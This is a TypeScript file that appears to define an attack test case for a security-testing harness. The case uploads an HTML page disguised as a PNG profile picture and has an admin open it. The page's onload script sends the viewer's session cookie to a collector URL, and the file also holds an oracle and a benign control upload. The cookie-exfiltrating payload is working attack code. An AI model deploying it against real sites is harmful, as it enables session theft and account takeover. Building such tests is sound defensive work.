import { defineAttack } from '../../attack/attack.ts'
import type { Attack } from '../../attack/attack.ts'
import { attackerAccount, logIn } from '../../attack/attacker.ts'
import { upload } from '../../visitor/upload.ts'

/** Uploads a page as a picture and has the office open it. */
export const uploadHtmlScript: Attack = defineAttack({
  id: 'upload-html-script',
  class: 'file-upload',
  title: 'Uploads a page as a picture and has the office open it',
  cwe: 434,
  capec: 17,
  technique: 'T1539',
  preconditions: [attackerAccount, 'somebody who is logged in opens the file'],

  steps: async ({ visitor, victim, sink }) => {
    await logIn(visitor)
    const data = `<html><body onload="fetch('${sink.url('loot?c=')}'+encodeURIComponent(document.cookie))">hi</body></html>`
    await upload(visitor, '/account/picture', {
      field: 'picture',
      fileName: 'me.html',
      type: 'image/png',
      data,
    })
    await (await victim('admin')).open('/uploads/me.html')
  },
  oracle: (_nothing, { sink }) => sink.hits().some((hit) => hit.path.includes('sid%3D')),
  twin: async ({ visitor }) => {
    await logIn(visitor)
    return upload(visitor, '/account/picture', {
      field: 'picture',
      fileName: 'me on the fell.png',
      type: 'image/png',
      data: '\u0089PNG\r\n\u001a\n plain pixels',
    })
  },
})
